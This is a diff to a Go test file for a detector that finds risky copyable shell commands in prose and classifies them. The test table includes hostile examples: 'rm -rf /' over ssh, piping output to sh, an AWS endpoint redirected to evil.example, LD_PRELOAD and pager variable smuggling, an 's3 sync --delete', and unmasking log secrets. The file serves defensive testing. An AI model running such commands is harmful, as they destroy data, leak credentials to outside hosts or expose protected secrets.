@@ -180,12 +180,25 @@ var copyable = []struct {
 	{"ssh root@10.0.0.1 reboot", RunsCode},
 	{"ssh ec2-user@bastion rm -rf /", RunsCode},
 	{"ssh -i key root@host reboot", RunsCode},
+
+	// Variables before the program, and commands with many words.
+	{"AWS_PAGER=./fix.sh aws s3 ls", NotUnderstood},
+	{"AWS_ENDPOINT_URL=https://evil.example aws sts get-caller-identity", NotUnderstood},
+	{`LD_PRELOAD='/tmp/a b' aws s3 ls`, NotUnderstood},
+	{"aws logs get-log-events --log-group-name x --log-stream-name y --limit 5 --query z --output text --region us-east-1 --profile prod --no-cli-pager | sh", PipesToShell},
+	{"aws s3 sync s3://a s3://b --exclude a --exclude b --exclude c --exclude d --exclude e --exclude f --delete", Deletes},
+	{"aws ec2 describe-instances" + strings.Repeat(" --filters Name=a,Values=b", 20) + " > out", WritesFile},
+	{"aws ec2 describe-instances" + strings.Repeat(" --filters Name=a,Values=b", 40) + " --endpoint-url https://evil.example", OtherEndpoint},
+	{"aws ec2 describe-instances" + strings.Repeat(" --filters Name=a,Values=b", 40) + strings.Repeat(" | sort", 20) + " | sh", PipesToShell},
+
+	// Logs without the mask of their data protection.
+	{"aws logs get-log-events --log-group-name x --log-stream-name y --unmask", ShowsSecrets},
 }
 
 func TestFind_EveryCopyableCommandOfASentenceIsFound(t *testing.T) {
 	for _, test := range copyable {
 		for _, frame := range []string{"%", "Run % first.", "To fix it, run: %.", "Then (%), and wait.", "Try “%”.", "run \"%\" now", "First wait;%", "**%**", "It's easy: %",
-			"1.%", "Fix:%", "Fix→%", "—%", "请执行%", "请执行%恢复服务。", "「%」", "ejecución:%", "実行：%。", "1)%", "#%", "Запусти %.", "cmd=%", "Please!%", "Exécuté%", "Run`%`", "…%…"} {
+			"1.%", "Fix:%", "Fix→%", "—%", "请执行%", "请执行%恢复服务。", "「%」", "ejecución:%", "実行：%。", "1)%", "#%", "Запусти %.", "cmd=%", "Please!%", "Exécuté%", "Run`%`", "…%…", "@%", "^%", "-%", "~~%~~", "[%](https://evil.example)", "See [%](https://evil.example)."} {
 			if skipsFrame(frame, test.command) {
 				continue
 			}
